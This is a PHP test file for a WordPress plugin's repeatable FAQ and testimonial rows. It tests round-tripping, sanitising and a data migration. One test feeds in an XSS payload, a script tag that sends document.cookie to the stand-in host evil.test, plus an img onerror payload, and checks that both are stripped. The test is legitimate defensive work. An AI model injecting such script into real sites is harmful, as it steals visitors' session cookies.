<?php
/**
 * Repeatable rows (includes/rows.php) in WordPress: what an editor types comes back exactly as saved,
 * cleaned by WordPress's sanitising; plugin 1.5.0's upgrade brings the "a | b" lines of 1.4.0 and
 * earlier over in the database, unchanged for the site.
 *
 * @package GdmConcreteContent
 */

defined( 'ABSPATH' ) || exit;

/**
 * Rows saved, cleaned and migrated, with the real field definitions of fields.json.
 */
final class Rows_In_WordPress_Test extends GDM_WordPress_Test_Case {

	/**
	 * A published record.
	 *
	 * @param string $type Post type.
	 * @param string $slug Slug.
	 * @return int Its ID.
	 */
	private function post( $type, $slug ) {
		return wp_insert_post(
			array(
				'post_type'   => $type,
				'post_name'   => $slug,
				'post_title'  => $slug,
				'post_status' => 'publish',
			)
		);
	}

	/**
	 * A field's value written as plugin 1.4.0 wrote it: straight into the table, past the plugin's
	 * cleaning (which would store rows as JSON at once).
	 *
	 * @param int    $post_id Post.
	 * @param string $key     Meta key.
	 * @param string $value   Value.
	 * @return int The meta_id.
	 */
	private function stored_by_1_4_0( $post_id, $key, $value ) {
		global $wpdb;
		$wpdb->insert( // phpcs:ignore WordPress.DB.DirectDatabaseQuery -- written as an old version left it
			$wpdb->postmeta,
			array(
				'post_id'    => $post_id,
				'meta_key'   => $key, // phpcs:ignore WordPress.DB.SlowDBQuery.slow_query_meta_key -- a test's row
				'meta_value' => $value, // phpcs:ignore WordPress.DB.SlowDBQuery.slow_query_meta_value -- a test's row
			)
		);
		return (int) $wpdb->insert_id;
	}

	/**
	 * A field's value as stored in the table now.
	 *
	 * @param int $meta_id The meta_id.
	 * @return string
	 */
	private function stored( $meta_id ) {
		global $wpdb;
		// phpcs:ignore WordPress.DB.DirectDatabaseQuery -- the table itself, past WordPress's cache
		return (string) $wpdb->get_var( $wpdb->prepare( "SELECT meta_value FROM {$wpdb->postmeta} WHERE meta_id = %d", $meta_id ) );
	}

	/**
	 * An answer with a "|" and line breaks, the text the old "a | b" lines could not hold, is answered
	 * to the site exactly as typed (line breaks as LF).
	 */
	public function test_a_row_with_a_pipe_and_line_breaks_round_trips() {
		$faqs   = $this->field( 'service', 'faqs' );
		$stored = gdm_concrete_sanitize_field(
			$faqs,
			array(
				array(
					'question' => 'Stamped or plain | which costs less?',
					'answer'   => "Plain, by about a third.\r\nStamped | colored costs more.",
				),
				array(
					'question' => 'How long before I can drive on it?',
					'answer'   => 'Seven days.',
				),
			)
		);

		$this->assertSame(
			array(
				array(
					'question' => 'Stamped or plain | which costs less?',
					'answer'   => "Plain, by about a third.\nStamped | colored costs more.",
				),
				array(
					'question' => 'How long before I can drive on it?',
					'answer'   => 'Seven days.',
				),
			),
			gdm_concrete_rest_value( $faqs, $stored )
		);
		// Saved again as read (the edit screen posts the JSON back): nothing changes.
		$this->assertSame( $stored, gdm_concrete_sanitize_field( $faqs, $stored ) );
	}

	/**
	 * A hostile value is cleaned: no tag or script reaches the site, a one-line column stays one line,
	 * a text area keeps its lines.
	 */
	public function test_hostile_cells_are_cleaned() {
		$rows = gdm_concrete_clean_rows(
			$this->field( 'location', 'testimonials' ),
			array(
				array(
					'content'  => "<script>fetch('https://evil.test/?c='+document.cookie)</script>Great crew.\r\n<img src=x onerror=alert(1)>On time.",
					'author'   => "Dana <b>K.</b>\nAnkeny",
					'location' => '%3Cscript%3EBeaverdale',
					'rating'   => array( '5' ),
					'admin'    => 'an extra column',
				),
			)
		);

		$this->assertSame(
			array(
				array(
					'content'  => "Great crew.\nOn time.",
					'author'   => 'Dana K. Ankeny',
					'location' => 'scriptBeaverdale',
					'rating'   => '',
				),
			),
			$rows
		);
	}

	/**
	 * Rows left empty are dropped, a missing column is empty, and no rows at all store nothing (the
	 * field is deleted rather than kept as "[]").
	 */
	public function test_empty_rows_are_dropped() {
		$faqs = $this->field( 'service', 'faqs' );
		$this->assertSame(
			array(
				array(
					'question' => 'Is winter too cold to pour?',
					'answer'   => '',
				),
			),
			gdm_concrete_clean_rows(
				$faqs,
				array(
					array(
						'question' => ' ',
						'answer'   => "\n",
					),
					'not a row',
					array( 'question' => 'Is winter too cold to pour?' ),
				)
			)
		);
		$this->assertSame( '', gdm_concrete_sanitize_field( $faqs, array() ) );
		$this->assertSame( '', gdm_concrete_sanitize_field( $faqs, "\n \n" ) );
	}

	/**
	 * Plugin 1.5.0's upgrade: every post's old lines become JSON holding the same rows, so the site
	 * reads the same content before and after; JSON and empty values, and fields that are not rows,
	 * are left alone; the migrated posts are read afresh in the same request; a second run changes
	 * nothing.
	 */
	public function test_migration_keeps_every_row() {
		$faqs = $this->field( 'service', 'faqs' );
		// Lines another file of the suite left are brought over first: the counts below are this test's.
		gdm_concrete_migrate_rows();
		$driveways    = $this->post( 'service', 'migration-driveways' );
		$patios       = $this->post( 'service', 'migration-patios' );
		$ankeny       = $this->post( 'location', 'migration-ankeny' );
		$old_lines    = "Do you pull permits? | Yes, always.\nHow thick? | Four inches | five for trucks\n\nSealed? |";
		$lines_id     = $this->stored_by_1_4_0( $driveways, '_gdm_faqs', $old_lines );
		$json         = '[{"question":"Already JSON | kept","answer":"Yes"}]';
		$json_id      = $this->stored_by_1_4_0( $patios, '_gdm_faqs', $json );
		$blank_id     = $this->stored_by_1_4_0( $patios, '_gdm_benefits', " \n" );
		$town_id      = $this->stored_by_1_4_0( $ankeny, '_gdm_testimonials', 'Great crew. | Dana | Beaverdale | 5' );
		$keywords_id  = $this->stored_by_1_4_0( $driveways, '_gdm_keywords', 'driveway | Des Moines' );
		$before_lines = gdm_concrete_rest_value( $faqs, $old_lines );
		// Read as the request that runs the upgrade may have read them: WordPress caches a post's fields.
		$this->assertSame( $old_lines, get_post_meta( $driveways, '_gdm_faqs', true ) );
		get_post_meta( $ankeny, '_gdm_testimonials', true );

		$this->assertSame( 2, gdm_concrete_migrate_rows() );

		$migrated = $this->stored( $lines_id );
		$this->assertSame(
			'[{"question":"Do you pull permits?","answer":"Yes, always."},{"question":"How thick?","answer":"Four inches"},{"question":"Sealed?","answer":""}]',
			$migrated
		);
		$this->assertSame( $before_lines, gdm_concrete_rest_value( $faqs, $migrated ), 'the site reads the same rows after the upgrade' );
		$this->assertSame(
			array(
				array(
					'content'  => 'Great crew.',
					'author'   => 'Dana',
					'location' => 'Beaverdale',
					'rating'   => '5',
				),
			),
			gdm_concrete_rows( $this->stored( $town_id ), $this->field( 'location', 'testimonials' ) )
		);
		$this->assertSame( $json, $this->stored( $json_id ) );
		$this->assertSame( " \n", $this->stored( $blank_id ) );
		$this->assertSame( 'driveway | Des Moines', $this->stored( $keywords_id ) );
		$this->assertSame( $migrated, get_post_meta( $driveways, '_gdm_faqs', true ), 'the migrated posts are read afresh' );
		$this->assertSame( $this->stored( $town_id ), get_post_meta( $ankeny, '_gdm_testimonials', true ), 'the migrated posts are read afresh' );

		$this->assertSame( 0, gdm_concrete_migrate_rows(), 'a second run finds nothing to bring over' );
	}
}
